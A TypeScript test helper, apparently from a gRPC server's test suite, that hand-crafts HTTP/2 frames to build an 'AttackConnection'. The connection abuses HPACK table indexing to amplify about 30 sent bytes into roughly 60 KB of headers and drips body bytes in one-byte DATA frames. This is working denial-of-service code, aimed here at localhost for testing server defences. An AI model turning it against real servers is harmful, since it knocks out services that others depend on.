import { once } from "node:events";
import net from "node:net";

const DATA = 0;
const HEADERS = 1;
const SETTINGS = 4;
const END_HEADERS = 4;
const ACK = 1;
/** `:authority`, which nghttp2 requires, as a literal that is not indexed. */
const AUTHORITY = [0x01, 0x01, 0x78];

/** What a client sends first: the preface of HTTP/2, its settings, and the acknowledgement of the server's. */
export const preface = () => Buffer.concat([Buffer.from(PREFACE), frameOf(SETTINGS, 0, 0), frameOf(SETTINGS, ACK, 0)]);
const PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

/** One HTTP/2 frame with a payload. */
export function frameOf(type: number, flags: number, stream: number, payload = Buffer.alloc(0)): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** Encodes a header that the server's HPACK decoder adds to its table. Name and value may have up to 4 KB. */
function indexed(name: string, value: string): Buffer {
  return Buffer.concat([Buffer.from([0x40]), literal(name), literal(value)]);
}

function literal(text: string): Buffer {
  const length = [];
  let rest = text.length - 127;
  if (rest < 0) length.push(text.length);
  else {
    length.push(127);
    for (; rest >= 128; rest = rest >> 7) length.push((rest & 127) | 128);
    length.push(rest);
  }
  return Buffer.concat([Buffer.from(length), Buffer.from(text)]);
}

/** The headers of the first call of a connection, and the shorter ones of each further call. */
export function callHeaders(path: string, isFirst: boolean) {
  const begin = Buffer.from([0x83, 0x86, ...AUTHORITY]);
  if (!isFirst) return Buffer.concat([begin, Buffer.from([0xc0, 0xbf, 0xbe])]);
  const added = [indexed(":path", path), indexed("content-type", "application/grpc"), indexed("te", "trailers")];
  return Buffer.concat([begin, ...added]);
}

/** An attacker's connection: it counts the bytes that it sends, and ignores the bytes that it receives. */
export class AttackConnection {
  readonly #socket: net.Socket;
  readonly #path: string;
  readonly #repeats: number;
  sentBytes = 0;
  #lastStream = -1;
  #hasTable = false;

  private constructor(socket: net.Socket, path: string, repeats: number) {
    this.#repeats = repeats;
    this.#socket = socket;
    this.#path = path;
  }

  /**
   * Connects. `path`: the rpc of all calls. `repeats`: how many copies of a header of 3.8 KB each call's header list
   * has besides the first. `acknowledges`: whether the connection acknowledges the server's settings.
   */
  static async open(
    port: number,
    path: string,
    { acknowledges = true, repeats = 14 as number | undefined } = {},
  ): Promise<AttackConnection> {
    const socket = net.connect(port, "127.0.0.1");
    socket.on("error", () => {});
    await once(socket, "connect");
    socket.resume();
    const connection = new AttackConnection(socket, path, repeats ?? 14);
    connection.#write(Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"));
    connection.#write(frameOf(SETTINGS, 0, 0));
    if (acknowledges) connection.#write(frameOf(SETTINGS, ACK, 0));
    return connection;
  }

  /** Begins a call whose header list has up to 60 KB. From the second call on, 30 bytes are sent for it. */
  begin(): number {
    this.#lastStream += 2;
    const big = this.#hasTable
      ? Buffer.from([0x83, 0x86, ...AUTHORITY, 0xc1, 0xc0, 0xbf, ...new Array<number>(this.#repeats + 1).fill(0xbe)])
      : Buffer.concat([
          Buffer.from([0x83, 0x86, ...AUTHORITY]),
          indexed(":path", this.#path),
          indexed("content-type", "application/grpc"),
          indexed("te", "trailers"),
          indexed("x-big", "b".repeat(3_800)),
          Buffer.alloc(this.#repeats, 0xbe),
        ]);
    this.#hasTable = true;
    this.#write(frameOf(HEADERS, END_HEADERS, this.#lastStream, big));
    return this.#lastStream;
  }

  /** Sends bytes of a call's body, each in a DATA frame of its own. Resolves when the kernel has accepted them. */
  async drip(stream: number, bytes: Uint8Array): Promise<void> {
    const frames = Buffer.concat(Array.from(bytes, (byte) => frameOf(DATA, 0, stream, Buffer.from([byte]))));
    await new Promise<void>((resolve) => {
      this.#socket.write(frames, () => resolve());
      this.sentBytes += frames.length;
    });
  }

  /** Whether the server has closed the connection. */
  get isClosed(): boolean {
    return this.#socket.destroyed;
  }

  close(): void {
    this.#socket.destroy();
  }

  #write(bytes: Buffer): void {
    this.sentBytes += bytes.length;
    this.#socket.write(bytes);
  }
}
